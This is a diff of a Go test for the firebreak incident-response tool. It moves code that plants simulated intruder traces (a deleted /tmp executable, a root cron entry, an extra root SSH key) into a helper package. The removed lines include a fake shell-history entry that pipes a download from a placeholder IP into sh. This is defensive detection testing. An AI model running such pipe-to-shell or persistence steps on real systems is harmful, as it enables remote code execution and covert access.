@@ -1,132 +1,30 @@
 package hostcollect_test
 
 import (
-	"crypto/rand"
 	"crypto/sha256"
 	"encoding/hex"
-	"errors"
 	"fmt"
 	"io"
-	"net"
 	"os"
-	"os/exec"
-	"path/filepath"
 	"strings"
 	"testing"
 	"time"
 
 	"github.com/firebreak-ir/firebreak/internal/bundle"
+	"github.com/firebreak-ir/firebreak/test/planted"
 )
-
-// restoreLater backs up path (or notes that it is absent) and restores it,
-// mode included, when the test ends.
-func restoreLater(t *testing.T, path string) {
-	t.Helper()
-	fi, err := os.Lstat(path)
-	switch {
-	case errors.Is(err, os.ErrNotExist):
-		t.Cleanup(func() { os.Remove(path) })
-	case err != nil:
-		t.Fatalf("backing up %s: %v", path, err)
-	case !fi.Mode().IsRegular():
-		t.Skipf("%s is not a regular file (%s); not touching it", path, fi.Mode())
-	default:
-		b, err := os.ReadFile(path)
-		if err != nil {
-			t.Fatalf("backing up %s: %v", path, err)
-		}
-		t.Cleanup(func() {
-			if err := os.WriteFile(path, b, fi.Mode().Perm()); err != nil {
-				t.Errorf("restoring %s: %v", path, err)
-			}
-			os.Chmod(path, fi.Mode().Perm())
-		})
-	}
-}
-
-func appendFile(t *testing.T, path, text string, mode os.FileMode) {
-	t.Helper()
-	f, err := os.OpenFile(path, os.O_WRONLY|os.O_APPEND|os.O_CREATE, mode)
-	if err != nil {
-		t.Fatal(err)
-	}
-	defer f.Close()
-	if _, err := f.WriteString(text); err != nil {
-		t.Fatal(err)
-	}
-}
 
 // TestTriageFindsPlantedArtifacts plants what an intruder leaves behind on
 // this machine, collects the triage profile through the plugin transport,
 // and checks that the verified bundle shows each item as an examiner needs it.
 func TestTriageFindsPlantedArtifacts(t *testing.T) {
-	if os.Geteuid() != 0 {
-		t.Skip("needs root: plants a cron entry in /etc/cron.d, a key in /root/.ssh/authorized_keys and a line in /root/.bash_history (CI runs as root)")
-	}
-	var nonce [4]byte
-	rand.Read(nonce[:])
-	marker := "firebreak-planted-" + hex.EncodeToString(nonce[:])
-
-	// A process whose executable was deleted from /tmp.
-	exe := filepath.Join("/tmp", marker)
-	src, err := os.ReadFile("/bin/sleep")
-	if err != nil {
+	p := planted.Plant(t, "firebreak-planted-")
+	marker, exe, cronFile, cronLine, history, stamp, port := p.Marker, p.ExePath, p.CronFile, p.CronLine, p.HistoryFile, p.HistoryStamp, p.Port
+	var exeSum [32]byte
+	if _, err := hex.Decode(exeSum[:], []byte(p.ExeSHA256)); err != nil {
 		t.Fatal(err)
 	}
-	if err := os.WriteFile(exe, src, 0o755); err != nil {
-		t.Fatal(err)
-	}
-	t.Cleanup(func() { os.Remove(exe) })
-	exeSum := sha256.Sum256(src)
-	cmd := exec.Command(exe, "600")
-	if err := cmd.Start(); err != nil {
-		t.Fatal(err)
-	}
-	t.Cleanup(func() { cmd.Process.Kill(); cmd.Wait() })
-	// Wait until the kernel has mapped it, then delete it.
-	for deadline := time.Now().Add(5 * time.Second); time.Now().Before(deadline); time.Sleep(10 * time.Millisecond) {
-		if l, _ := os.Readlink(fmt.Sprintf("/proc/%d/exe", cmd.Process.Pid)); l == exe {
-			break
-		}
-	}
-	if err := os.Remove(exe); err != nil {
-		t.Fatal(err)
-	}
-
-	// A cron entry.
-	cronFile := filepath.Join("/etc/cron.d", marker)
-	cronLine := "*/7 * * * * root /usr/bin/true " + marker
-	if err := os.WriteFile(cronFile, []byte("# planted by a test\n"+cronLine+"\n"), 0o644); err != nil {
-		t.Fatal(err)
-	}
-	t.Cleanup(func() { os.Remove(cronFile) })
-
-	// An authorized key for root.
-	sshDir := "/root/.ssh"
-	if _, err := os.Lstat(sshDir); errors.Is(err, os.ErrNotExist) {
-		if err := os.Mkdir(sshDir, 0o700); err != nil {
-			t.Fatal(err)
-		}
-		t.Cleanup(func() { os.Remove(sshDir) })
-	}
-	keys := filepath.Join(sshDir, "authorized_keys")
-	restoreLater(t, keys)
-	key := "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAABAgMEBQYHCAkKCwwNDg8QERITFBUWFxgZGhscHR4f " + marker
-	appendFile(t, keys, "\n"+key+"\n", 0o600)
-
-	// A shell history line.
-	history := "/root/.bash_history"
-	restoreLater(t, history)
-	stamp := time.Now().Unix()
-	appendFile(t, history, fmt.Sprintf("#%d\ncurl -s http://198.51.100.7/%s | sh\n", stamp, marker), 0o600)
-
-	// A listening TCP socket, held by this test process.
-	ln, err := net.Listen("tcp", "127.0.0.1:0")
-	if err != nil {
-		t.Fatal(err)
-	}
-	t.Cleanup(func() { ln.Close() })
-	port := ln.Addr().(*net.TCPAddr).Port
+	pid := p.Pid
 
 	got := collect(t, nil, map[string]any{"profile": "triage"})
 	for _, a := range got.result.Artifacts {
@@ -136,12 +34,12 @@ func TestTriageFindsPlantedArtifacts(t *testing.T) {
 	t.Run("deleted executable", func(t *testing.T) {
 		var rec map[string]any
 		for _, r := range got.records(t, "processes") {
-			if int(r["pid"].(float64)) == cmd.Process.Pid {
+			if int(r["pid"].(float64)) == pid {
 				rec = r
 			}
 		}
 		if rec == nil {
-			t.Fatalf("process %d not collected", cmd.Process.Pid)
+			t.Fatalf("process %d not collected", pid)
 		}
 		if rec["exe"] != exe || rec["exe_deleted"] != true || rec["suspicious_location"] != true || rec["exe_sha256"] != hex.EncodeToString(exeSum[:]) {
 			t.Errorf("record %v: want exe %s deleted, suspicious, sha256 %x", rec, exe, exeSum)
